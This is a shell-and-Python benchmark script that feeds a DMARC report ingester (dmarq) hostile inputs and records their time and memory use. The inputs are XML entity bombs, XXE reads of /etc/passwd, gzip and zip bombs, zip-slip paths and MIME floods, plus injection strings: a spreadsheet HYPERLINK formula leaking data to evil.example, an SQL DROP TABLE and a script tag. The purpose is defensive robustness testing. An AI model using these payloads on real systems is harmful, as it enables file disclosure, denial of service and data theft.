#!/usr/bin/env bash
# Adversarial ingest benchmark (not a test): writes each hostile input of
# tests/unit/ingest/adversarial_test.cpp to a file in a temporary directory,
# ingests it alone into a fresh database with the dmarq binary, and prints one
# row per case: seconds, peak RSS, exit code and the first line of stderr.
# Targets: under 1 s and under 128 MB per case; a row that misses one is
# marked MISS.
#
#   tools/bench/adversarial-bench.sh [BUILD_DIR]   (default: build-rel)
#   DMARQ_BENCH_KEEP=1 keeps the cases and databases (the path is printed).
set -euo pipefail
root=$(cd "$(dirname "$0")/../.." && pwd)
build=$(cd "${1:-$root/build-rel}" && pwd)
dmarq="$build/tools/dmarq/dmarq"
[[ -x "$dmarq" ]] || { echo "no dmarq binary at $dmarq" >&2; exit 2; }
work=$(mktemp -d "${TMPDIR:-/tmp}/dmarq-adv-bench-XXXXXX")
if [[ "${DMARQ_BENCH_KEEP:-0}" == 1 ]]; then echo "cases kept in $work/cases"; else trap 'rm -rf "$work"' EXIT; fi
mkdir "$work/cases"
export HOME="$work"  # nothing may touch the real home or default database

python3 - "$work/cases" "$root/tests/data/reports/basic.xml" <<'PY'
import os, struct, sys, zlib

out, basic = sys.argv[1], open(sys.argv[2], "rb").read()
ORG = b"<org_name>Example Receiver</org_name>"

def put(name, data):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)

def with_org(text):  # basic.xml with another org_name element content
    return basic.replace(ORG, b"<org_name>" + text + b"</org_name>")

def with_doctype(doctype, org=b"Example Receiver"):
    body = basic.split(b"?>", 1)[1]
    return b'<?xml version="1.0"?>\n' + doctype + body.replace(ORG, b"<org_name>" + org + b"</org_name>")

def gzip(data, level=9):
    z = zlib.compressobj(level, zlib.DEFLATED, 16 + 15)
    return z.compress(data) + z.flush()

def raw_deflate(data):
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    return z.compress(data) + z.flush()

# A zip written by hand so every field can lie: entries are
# (name, data, dict(method, flags, usize, csize, crc, zip64)).
def zip_bytes(entries):
    local, central, at = [], [], 0
    for name, data, o in entries:
        method = o.get("method", 8)
        body = raw_deflate(data) if method == 8 else data
        crc = o.get("crc", zlib.crc32(data))
        usize, csize = o.get("usize", len(data)), o.get("csize", len(body))
        extra = b""
        hu, hc = usize, csize
        if o.get("zip64"):
            extra = struct.pack("<HHQQ", 1, 16, usize, csize)
            hu = hc = 0xFFFFFFFF
        flags, ver = o.get("flags", 0), 45 if o.get("zip64") else 20
        local.append(struct.pack("<IHHHHHIIIHH", 0x04034B50, ver, flags, method, 0, 0x5D62, crc, hc, hu,
                             len(name), len(extra)) + name + extra + body)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, ver, flags, method, 0, 0x5D62, crc,
                               hc, hu, len(name), len(extra), 0, 0, 0, 0o100644 << 16, at) + name + extra)
        at += len(local[-1])
    n, cd = len(entries), b"".join(central)
    return b"".join(local) + cd + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(cd), at, 0)

def mail(parts, boundary=b"B", close=True):
    head = (b"From: reporter@receiver.example\nTo: dmarc@example.com\nSubject: Report Domain: example.com\n"
            b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"" + boundary + b"\"\n\n")
    body = b"".join(b"--" + boundary + b"\n" + p + b"\n" for p in parts)
    return head + body + (b"--" + boundary + b"--\n" if close else b"")

def attachment(data, name=b"report.xml.gz"):
    import base64
    return (b"Content-Type: application/gzip; name=\"" + name + b"\"\nContent-Transfer-Encoding: base64\n\n" +
            base64.encodebytes(data))

# --- XML
laughs = b'<!ENTITY lol0 "lol">\n' + b"".join(
    b"<!ENTITY lol%d \"%s\">\n" % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
put("xml-billion-laughs.xml", with_doctype(b"<!DOCTYPE feedback [\n" + laughs + b"]>\n", b"&lol9;"))
put("xml-quadratic.xml", with_doctype(b'<!DOCTYPE feedback [<!ENTITY a "' + b"A" * 100_000 + b'">]>\n',
                                      b"&a;" * 50_000))
put("xml-xxe-file.xml", with_doctype(b'<!DOCTYPE feedback [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
                                     b"&xxe;"))
put("xml-xxe-http-dtd.xml", with_doctype(b'<!DOCTYPE feedback SYSTEM "http://127.0.0.1:9/evil.dtd">\n'))
put("xml-xxe-http-pe.xml", with_doctype(b'<!DOCTYPE feedback [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd"> %p;]>\n'))
put("xml-deep-100k.xml", b"<feedback>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</feedback>")
put("xml-text-20mb.xml", with_org(b"A" * (20 << 20)))
put("xml-nul.xml", with_org(b"Example\0Receiver"))
put("xml-utf16-declared.xml", basic.replace(b'encoding="UTF-8"', b'encoding="UTF-16"'))
put("xml-utf16-bom.xml", basic.replace(b'encoding="UTF-8"', b'encoding="UTF-16"').decode().encode("utf-16"))
put("xml-x-klingon.xml", basic.replace(b'encoding="UTF-8"', b'encoding="x-klingon"'))

# --- archives
def claim_10gib(gz):  # the trailer's ISIZE is the size mod 2^32
    return gz[:-4] + struct.pack("<I", (10 << 30) & 0xFFFFFFFF)
put("gz-bomb-zeros.xml.gz", claim_10gib(gzip(b"\0" * (64 << 20))))
put("gz-bomb-xml.xml.gz", claim_10gib(gzip(b'<?xml version="1.0"?><feedback>' + b" " * (64 << 20))))

# A bomb just under the 1000:1 ratio limit (deflate's best is about 1030:1):
# 1100 copies of one block of 1 MiB of blanks and a few letters. The full
# flush makes every copy the same bytes, so nothing of 1.1 GiB is compressed
# here; the trailer is wrong, and never reached: max_entry_bytes stops it.
def gzip_under_ratio(prefix, copies):
    z = zlib.compressobj(9, zlib.DEFLATED, 16 + 15)
    head = z.compress(prefix) + z.flush(zlib.Z_FULL_FLUSH)
    block = z.compress(b" " * (1 << 20) + b"qwertyuiopasdfghjklzxcvbnmmnbvcxzlkjhgfdsapoiuytrewq") + \
        z.flush(zlib.Z_FULL_FLUSH)
    assert (1 << 20) / len(block) < 1000
    return head + block * copies + z.flush()
put("gz-bomb-under-ratio.xml.gz", gzip_under_ratio(b'<?xml version="1.0"?><feedback>', 1100))
put("zip-5gib-entry.zip", zip_bytes([(b"report.xml", basic, {"usize": 5 << 30, "zip64": True})]))
put("zip-20k-entries.zip", zip_bytes([(b"r%05d.xml" % i, b"x", {"method": 0}) for i in range(20_000)]))
put("zip-in-zip.zip", zip_bytes([(b"inner.zip", zip_bytes([(b"report.xml", basic, {})]), {})]))
put("zip-slip.zip", zip_bytes([(b"../../../../tmp/dmarq-zip-slip-evil.xml", basic, {}),
                               (b"/tmp/dmarq-zip-slip-abs.xml", basic, {})]))
put("zip-encrypted.zip", zip_bytes([(b"report.xml", basic, {"flags": 1})]))
put("zip-size-lies.zip", zip_bytes([(b"report.xml", basic, {"usize": 100})]))
put("gz-truncated.xml.gz", gzip(basic)[: len(gzip(basic)) // 2])
put("zip-truncated.zip", zip_bytes([(b"report.xml", basic, {})])[:400])

# --- MIME
deep = b"From: a@b\nMIME-Version: 1.0\n" + b"".join(
    b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (i, i) for i in range(50_000))
put("mime-deep-50k.eml", deep + b"\nx\n")
rep = attachment(gzip(basic))
put("mime-header-8mb.eml", b"X-Long: " + b"x" * (8 << 20) + b"\n" + mail([rep]))
put("mime-500k-headers.eml", b"X-H: v\n" * 500_000 + mail([rep]))
put("mime-200k-parts.eml", mail([b"Content-Type: text/plain\n\np"] * 200_000 + [rep]))
put("mime-bad-base64.eml", mail([b"Content-Type: application/gzip; name=\"r.xml.gz\"\n"
                                 b"Content-Transfer-Encoding: base64\n\n!!!!%%%%****@@@@\n"]))
flood = b"".join(b";\n name*%d*=us-ascii''%%41%%41%%41" % i for i in range(20_000))
put("mime-rfc2231-flood.eml", mail([b"Content-Type: application/gzip" + flood +
                                    b"\nContent-Transfer-Encoding: base64\n\n" + rep.split(b"\n\n", 1)[1]]))
put("mime-no-closing-boundary.eml", mail([rep], close=False))

# --- injection: text fields carry formulas, SQL, HTML and the 8-bit CSI
# (a raw ESC is not XML: that report would just be malformed). Stored, exit 0.
inj = basic
for tag, value in [(b"org_name", b'=HYPERLINK("http://evil.example/?"&amp;A1,"click")'),
                   (b"report_id", b"'); DROP TABLE report;--"), (b"email", b"+SUM(1+1)@evil.example"),
                   (b"extra_contact_info", b"&lt;script&gt;alert(1)&lt;/script&gt;"), (b"domain", b"@evil.example"),
                   (b"source_ip", b"-1+2;192.0.2.10"), (b"envelope_to", b"&#x9b;31mred&#x9b;0m"),
                   (b"envelope_from", b"=1+1&#9;tab&#13;cr\nlf")]:
    start = inj.index(b"<" + tag + b">") + len(tag) + 2
    inj = inj[:start] + value + inj[inj.index(b"</" + tag + b">", start):]
put("injection.xml", inj)
PY

# One row per case: /usr/bin/time writes "seconds peak-KB" to its own file.
printf '%-28s %8s %8s %4s  %s\n' case seconds RSS_MB exit "first stderr line"
for f in "$work"/cases/*; do
  name=$(basename "$f")
  set +e
  /usr/bin/time -o "$work/time" -f '%e %M' "$dmarq" --db "$work/db-$name.sqlite" ingest "$f" \
    >/dev/null 2>"$work/err"
  rc=$?
  set -e
  read -r secs kb < <(tail -n 1 "$work/time")
  mb=$((kb / 1024))
  miss=""
  if awk -v s="$secs" 'BEGIN { exit !(s >= 1.0) }' || ((mb >= 128)); then miss="  MISS"; fi
  first=$(head -n 1 "$work/err" | sed "s|$work/cases/||" | cut -c 1-100)
  printf '%-28s %8s %8s %4s  %s%s\n' "$name" "$secs" "$mb" "$rc" "$first" "$miss"
done
